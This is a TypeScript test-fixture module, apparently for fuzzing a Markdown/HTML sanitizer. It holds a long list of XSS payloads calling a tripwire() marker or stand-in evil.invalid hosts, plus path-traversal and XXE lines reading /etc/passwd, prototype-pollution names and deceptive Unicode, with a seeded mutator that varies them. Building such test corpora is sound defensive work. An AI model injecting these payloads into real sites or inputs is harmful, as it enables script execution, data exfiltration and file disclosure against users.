/** What an attacker writes where words are expected. Each would call `tripwire()`, ask a stranger's host or restyle the page. */
export const PAYLOADS: readonly string[] = [
  // Scripts and what runs like one
  '<script>tripwire()</script>',
  '<script src="https://evil.invalid/a.js"></script>',
  '<script/src=//evil.invalid></script>',
  '<scr<script>ipt>tripwire()</scr</script>ipt>',
  '</script><script>tripwire()</script>',
  '--></style></script><script>tripwire()</script>',
  '"><script>tripwire()</script>',
  "'-tripwire()-'",
  '${tripwire()}',
  '{{constructor.constructor("tripwire()")()}}',
  '<%= tripwire() %>',
  '{tripwire()}',
  '`;tripwire();`',
  '\\u003cscript\\u003etripwire()\\u003c/script\\u003e',
  // Event handlers
  '<img src=x onerror=tripwire()>',
  '<img src="x" onerror="tripwire()">',
  '<body onload=tripwire()>',
  '<input autofocus onfocus=tripwire()>',
  '<details open ontoggle=tripwire()>x</details>',
  '<video><source onerror="tripwire()"></video>',
  '<audio src=x onerror=tripwire()>',
  '<marquee onstart=tripwire()>x</marquee>',
  '<a href="#" onclick="tripwire()" onmouseover="tripwire()">x</a>',
  '<div onpointerenter=tripwire() onanimationstart=tripwire()>x</div>',
  '" onmouseover="tripwire()" x="',
  "' autofocus onfocus='tripwire()' x='",
  // Frames, forms, objects, head
  '<iframe src="javascript:tripwire()"></iframe>',
  '<iframe srcdoc="<script>parent.tripwire()</script>"></iframe>',
  '<object data="javascript:tripwire()"></object>',
  '<embed src="https://evil.invalid/a.swf">',
  '<form action="https://evil.invalid/"><input name=q><button>x</button></form>',
  '<base href="https://evil.invalid/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">',
  '<link rel="stylesheet" href="https://evil.invalid/a.css">',
  '<link rel="import" href="https://evil.invalid/a.html">',
  '<template><script>tripwire()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=tripwire()>"></noscript>',
  // SVG and MathML
  '<svg onload=tripwire()>',
  '<svg><script>tripwire()</script></svg>',
  '<svg><animate onbegin=tripwire() attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:tripwire()"><text y=20>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.tripwire()</script>"/></foreignObject></svg>',
  '<svg><use href="https://evil.invalid/a.svg#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=tripwire()>',
  '<math href="javascript:tripwire()">x</math>',
  '<svg><style><img src=x onerror=tripwire()></style></svg>',
  // Styles
  '<style>*{background:url(https://evil.invalid/a.png)}</style>',
  '<style>@import "https://evil.invalid/a.css";</style>',
  '<p style="background:url(https://evil.invalid/a.png)">x</p>',
  '<p style="position:fixed;inset:0;background:red">x</p>',
  '<div class="palette-dialog" style="behavior:url(a.htc)">x</div>',
  '<a style="width:expression(tripwire())">x</a>',
  // Links of Markdown
  '[x](javascript:tripwire())',
  '[x](JaVaScRiPt:tripwire())',
  '[x](  javascript:tripwire())',
  '[x](java\tscript:tripwire())',
  '[x](javascript&#58;tripwire())',
  '[x](javascript&colon;tripwire())',
  '[x](&#106;avascript:tripwire())',
  '[x](&#x6A;&#x61;vascript:tripwire())',
  '[x](\\javascript:tripwire())',
  '[x](%6Aavascript:tripwire())',
  '[x](javascript%3Atripwire())',
  '[x](data:text/html,<script>tripwire()</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD50cmlwd2lyZSgpPC9zY3JpcHQ+)',
  '[x](vbscript:tripwire())',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.invalid/1)',
  '[x](filesystem:https://evil.invalid/1)',
  '[x](view-source:javascript:tripwire())',
  '[x](//evil.invalid/a)',
  '[x](\\\\evil.invalid\\a)',
  '[x](/\\evil.invalid)',
  '[x](https://evil.invalid@127.0.0.1/)',
  '[x](https://teejuht.invalid\\@evil.invalid/)',
  '[x](../../../../etc/passwd)',
  '[x](..%2f..%2fetc%2fpasswd)',
  '[x](/etc/passwd)',
  '[x](mailto:a@b.ee?body=%0d%0aBcc:x)',
  '[x](tel:112;phone-context=evil)',
  '[x](https://evil.invalid "onmouseover=tripwire()")',
  '[x](https://evil.invalid\'"onmouseover="tripwire())',
  '[x]: javascript:tripwire()\n\n[x]',
  '[x][y]\n\n[y]: <javascript:tripwire()> "t"',
  '[x]: data:text/html,a\n\n[x][]',
  '<javascript:tripwire()>',
  '<https://evil.invalid/?a=<script>tripwire()</script>>',
  'https://evil.invalid/"onmouseover="tripwire()',
  'www.evil.invalid/<script>tripwire()</script>',
  'javascript:tripwire()@evil.invalid',
  // Pictures
  '![x](https://evil.invalid/a.png)',
  '![x](javascript:tripwire())',
  '![x](x" onerror="tripwire())',
  '![x][y]\n\n[y]: https://evil.invalid/a.png',
  // Directives, comments, fences, footnotes
  ':::script\ntripwire()\n:::',
  ':::meri{onclick="tripwire()" style="color:red" class="x" id="sisu"}\nx\n:::',
  ':::juhendajale{.agents}\nx\n:::',
  ':::iframe[x]{src="javascript:tripwire()"}\n:::',
  '::img{src=x onerror=tripwire()}',
  ':a[x]{href="javascript:tripwire()"}',
  '<!-- <script>tripwire()</script> -->',
  '<!--><img src=x onerror=tripwire()>-->',
  '<!-- --!><img src=x onerror=tripwire()>',
  '<![CDATA[<script>tripwire()</script>]]>',
  '<?php tripwire() ?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '```html\n<script>tripwire()</script>\n```',
  '````\n```\n<script>tripwire()</script>\n```\n````',
  '~~~"onmouseover="tripwire()\nx\n~~~',
  '[^1]\n\n[^1]: <script>tripwire()</script>',
  '- a\n\n      <script>tripwire()</script>',
  '| a |\n|---|\n| <img src=x onerror=tripwire()> |',
  // Entities
  '&lt;script&gt;tripwire()&lt;/script&gt;',
  '&#60;script&#62;tripwire()&#60;/script&#62;',
  '&#x3C;img src=x onerror=tripwire()&#x3E;',
  '&amp;lt;script&amp;gt;tripwire()&amp;lt;/script&amp;gt;',
  '&#0;&#xD800;&#x110000;&#x202E;x',
  // Names that programs give a meaning
  '__proto__',
  'constructor',
  'toString',
  '{{__proto__.polluted}}',
  '{{tasud.__proto__}}',
  '{{tasud.luba.__proto__}}',
  '{{../../etc/passwd}}',
  "$& $1 $` $'",
  '%00%0a%0d%s%n',
  // Letters that deceive
  'kinnitatud\u202E)datud(',
  '\u2066algus\u2069',
  'tasu\u200B: 0 €',
  'luba\u00ADdeta\u2060',
  'vahe\u0000baidiga',
  '\u001B[31mpunane\u001B[0m',
  '\uFEFFmärk keskel',
  '\uD800 üksik pool',
  'а\u0501mіn (kirillitsas)',
  'Z\u0351\u036B\u0343\u0363\u0330\u034E'.repeat(8),
]

/** A generator of numbers from 0 to 1; the same for the same seed (Mulberry32). */
export function seeded(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296
  }
}

const CHANGES: readonly ((text: string, random: () => number) => string)[] = [
  (text, random) =>
    text.replaceAll(/[a-z]/gi, (letter) => (random() < 0.5 ? letter.toUpperCase() : letter)),
  (text, random) =>
    text.replaceAll(/[a-z]/gi, (letter) =>
      random() < 0.2 ? `&#${String(letter.charCodeAt(0))};` : letter,
    ),
  (text, random) => text.replaceAll('<', () => (random() < 0.5 ? '<\n' : '<<')),
  (text, random) => text.replaceAll(/[ =:]/g, (sign) => (random() < 0.5 ? `${sign}\t` : sign)),
  (text, random) => text.replaceAll('"', () => (random() < 0.5 ? "'" : '&quot;')),
  (text) => `> - **${text}**`,
  (text) => `[a](https://a.ee) ${text} [b](https://b.ee)`,
  (text) => `*${text}_`,
]

/** Payloads changed at random, one or two changes each. */
export function mutated(count: number, seed: number): readonly string[] {
  const random = seeded(seed)
  const pick = <Value>(all: readonly Value[]): Value =>
    all[Math.floor(random() * all.length)] as Value
  return Array.from({ length: count }, () => {
    const once = pick(CHANGES)(pick(PAYLOADS), random)
    return random() < 0.5 ? once : pick(CHANGES)(once, random)
  })
}
